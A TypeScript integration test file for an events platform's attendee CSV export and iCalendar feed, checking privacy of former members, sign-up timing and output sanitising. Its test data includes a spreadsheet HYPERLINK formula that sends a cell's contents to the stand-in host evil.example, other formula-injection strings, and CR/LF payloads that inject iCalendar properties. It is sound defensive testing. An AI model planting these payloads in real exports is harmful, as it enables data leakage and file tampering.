import { parse } from 'csv-parse/sync';
import { Client } from 'pg';

import { PlatformRole } from '../src/members/member.entity';
import { aMember, aSchool, TEST_PASSWORD } from './factories';
import { createTestApp, gql, TestApp } from './test-app';
import { isEmbeddedTestDatabase, testDatabaseUrl } from './test-database';

/** The root jest config drops the api project's testTimeout (5 s default); booting can take longer. */
const BOOT_TIMEOUT = 30_000;
const LOGIN = `mutation($email: String!, $password: String!) { login(input: { email: $email, password: $password }) { id } }`;
const CREATE = `mutation($input: CreateEventInput!) { createEvent(input: $input) { id title } }`;
const UPDATE = `mutation($input: UpdateEventInput!) { updateEvent(input: $input) { id title } }`;
const REGISTER = `mutation($id: ID!) { registerForEvent(input: { eventId: $id }) { id status } }`;

const inDays = (days: number) => new Date(Date.now() + days * 86_400_000);
/** Control characters iCalendar TEXT may not carry (CR and LF only as the line ending). */
const CONTROL = /(?![\r\n])\p{Cc}/u;

const onRealPostgres = isEmbeddedTestDatabase() ? it.skip : it;
if (isEmbeddedTestDatabase()) {
  console.warn(
    'exports: the created_at test holds a row lock while the api waits; it needs real PostgreSQL (set TEST_DATABASE_URL); skipped on PGlite.',
  );
}

describe('exports: CSV and iCalendar', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await createTestApp();
  }, BOOT_TIMEOUT);
  afterAll(() => t.close());

  async function signedIn(role = PlatformRole.MEMBER, options: Parameters<typeof aMember>[1] = {}) {
    const member = await aMember(t.dataSource, { platformRole: role, ...options });
    const agent = t.agent();
    const login = await gql(agent, LOGIN, { email: member.email, password: TEST_PASSWORD });
    expect(login.errors).toBeUndefined();
    return { member, agent };
  }

  async function anEvent(title = 'Rekenatelier') {
    const { agent } = await signedIn(PlatformRole.COORDINATOR);
    const res = await gql(agent, CREATE, { input: { title, startsAt: inDays(7) } });
    expect(res.errors).toBeUndefined();
    return { id: res.data?.createEvent.id as string, coordinator: agent };
  }

  describe('attendee CSV', () => {
    it('shows a former member (oud-lid) by name only', async () => {
      const { id, coordinator } = await anEvent('Leesatelier');
      const school = await aSchool(t.dataSource, { name: 'OBS De Linde', town: 'Ede' });
      const leaving = await signedIn(PlatformRole.MEMBER, { name: 'Bram Oud', school });
      expect((await gql(leaving.agent, REGISTER, { id })).errors).toBeUndefined();
      await t.dataSource.query(`UPDATE member SET status = 'DEACTIVATED' WHERE id = $1`, [
        leaving.member.id,
      ]);
      const res = await coordinator.get(`/export/events/${id}/attendees.csv`);
      const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ naam: 'Bram Oud', 'e-mail': '', school: '' });
      expect(res.text).not.toContain(leaving.member.email);
    });

    it('neutralises cells that a spreadsheet would run as a formula', async () => {
      const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Sanne")';
      const school = await aSchool(t.dataSource, { name: '+SUM(1,2)', town: '@Ede' });
      const { id, coordinator } = await anEvent();
      const members = [
        { name: hyperlink, school },
        { name: '-2+3', email: `-min-${Date.now()}@school.example` },
        { name: '@SUM(A1:A9)' },
        { name: '\t=1+1' },
        { name: '\r=1+1' },
        { name: 'Sanne de Vries' },
      ];
      for (const options of members) {
        const { agent } = await signedIn(PlatformRole.MEMBER, options);
        expect((await gql(agent, REGISTER, { id })).errors).toBeUndefined();
      }
      const res = await coordinator.get(`/export/events/${id}/attendees.csv`);
      expect(res.status).toBe(200);
      const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
      expect(rows.map((r) => r['naam'])).toEqual([
        `'${hyperlink}`,
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        'Sanne de Vries',
      ]);
      expect(rows[0]['school']).toBe("'+SUM(1,2), @Ede");
      expect(rows[1]['e-mail']).toMatch(/^'-min-/);
      for (const row of rows) {
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    });

    onRealPostgres(
      'lists "aangemeld op" as the time the sign-up was written, in queue order',
      async () => {
        const { id, coordinator } = await anEvent();
        const fresh = await signedIn(); // a new row (the column default)
        const again = await signedIn(); // signed up and off before: the row is reused
        await gql(again.agent, REGISTER, { id });
        await gql(
          again.agent,
          `mutation($id: ID!) { cancelRegistration(input: { eventId: $id }) { id } }`,
          {
            id,
          },
        );
        // Hold the event's row lock, so the sign-ups' transactions start now but write later.
        const blocker = new Client({ connectionString: testDatabaseUrl() });
        await blocker.connect();
        let released: Date;
        try {
          await blocker.query('BEGIN');
          await blocker.query('SELECT id FROM event WHERE id = $1 FOR UPDATE', [id]);
          const pending = [gql(fresh.agent, REGISTER, { id }), gql(again.agent, REGISTER, { id })];
          await waitForLockWaiters(blocker, 2);
          await new Promise((resolve) => setTimeout(resolve, 300));
          released = (await blocker.query(`SELECT clock_timestamp() AS released`)).rows[0].released;
          await blocker.query('COMMIT');
          for (const res of await Promise.all(pending)) expect(res.errors).toBeUndefined();
        } finally {
          await blocker.end();
        }
        const later = await signedIn();
        await gql(later.agent, REGISTER, { id });
        const rows: { member_id: string; created_at: Date }[] = await t.dataSource.query(
          `SELECT member_id, created_at FROM registration WHERE event_id = $1 ORDER BY queue_seq`,
          [id],
        );
        expect(rows.map((r) => r.member_id).sort()).toEqual(
          [fresh.member.id, again.member.id, later.member.id].sort(),
        );
        for (const row of rows.filter((r) => r.member_id !== later.member.id)) {
          expect(row.created_at.getTime()).toBeGreaterThanOrEqual(released.getTime());
        }
        const times = rows.map((r) => r.created_at.getTime());
        expect(times).toEqual([...times].sort((a, b) => a - b));
        const csv = await coordinator.get(`/export/events/${id}/attendees.csv`);
        expect(parse(csv.text, { bom: true, columns: true })).toHaveLength(3);
      },
    );
  });

  describe('iCalendar', () => {
    it('keeps CR/LF and control characters in a stored title inside their own property', async () => {
      const { default: ICAL } = await import('ical.js');
      const { id } = await anEvent();
      const { agent } = await signedIn();
      await gql(agent, REGISTER, { id });
      // Written before titles were checked at input (or by any other path into the table).
      await t.dataSource.query(
        `UPDATE event SET title = $2, location = $3, description = $4 WHERE id = $1`,
        [
          id,
          'Atelier\r\nX-INJECTED:titel\r\nBEGIN:VTODO',
          'Zaal 1\u0007\nX-INJECTED:plaats',
          'Regel 1\r\nX-INJECTED:omschrijving\u0001',
        ],
      );
      const download = await agent.get(`/calendar/events/${id}.ics`);
      expect(download.status).toBe(200);
      const text = download.text;
      expect(text).not.toMatch(CONTROL);
      // Every physical line ends with CRLF; no bare CR or LF inside a line.
      expect(text.split('\r\n').every((line) => !/[\r\n]/.test(line))).toBe(true);
      expect(text.split('\r\n').filter((line) => /^X-INJECTED/i.test(line))).toEqual([]);
      const calendar = new ICAL.Component(ICAL.parse(text));
      expect(calendar.getAllProperties('x-injected')).toHaveLength(0);
      expect(calendar.getAllSubcomponents('vtodo')).toHaveLength(0);
      expect(calendar.getAllProperties('name')).toHaveLength(1);
      expect(calendar.getAllProperties('x-wr-calname')).toHaveLength(1);
      const vevent = calendar.getFirstSubcomponent('vevent')!;
      expect(vevent.getAllProperties('x-injected')).toHaveLength(0);
      expect(vevent.getFirstPropertyValue('summary')).toBe(
        'Atelier\nX-INJECTED:titel\nBEGIN:VTODO',
      );
      // ical.js does not know NAME (RFC 7986) as TEXT, so it shows the escaped value as written.
      expect(calendar.getFirstPropertyValue('name')).toBe(
        'Atelier\\nX-INJECTED:titel\\nBEGIN:VTODO',
      );
      expect(calendar.getFirstPropertyValue('x-wr-calname')).toBe(
        calendar.getFirstPropertyValue('name'),
      );
    });

    it('refuses control characters in titles at input, with the field', async () => {
      const { agent } = await signedIn(PlatformRole.COORDINATOR);
      for (const title of ['Atelier\r\nX-INJECTED:1', 'Atelier\nB', 'Bel\u0007', 'Tab\tstop']) {
        const res = await gql(agent, CREATE, { input: { title, startsAt: inDays(3) } });
        expect(res.errors?.[0]?.extensions).toMatchObject({
          code: 'BAD_USER_INPUT',
          field: 'title',
        });
      }
      const { id } = await anEvent('Leesclub');
      const update = await gql(agent, UPDATE, { input: { id, title: 'Leesclub\r\nX-A:1' } });
      expect(update.errors?.[0]?.extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        field: 'title',
      });
      const ok = await gql(agent, UPDATE, {
        input: { id, title: 'Leesclub – "Kinderboeken" 2026' },
      });
      expect(ok.data?.updateEvent.title).toBe('Leesclub – "Kinderboeken" 2026');
    });
  });
});

async function waitForLockWaiters(blocker: Client, count: number): Promise<void> {
  for (let i = 0; i < 100; i++) {
    const { rows } = await blocker.query(
      `SELECT count(*)::int AS n FROM pg_stat_activity
        WHERE datname = current_database() AND wait_event_type = 'Lock'`,
    );
    if (rows[0].n >= count) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  throw new Error('The sign-ups never waited for the event lock');
}
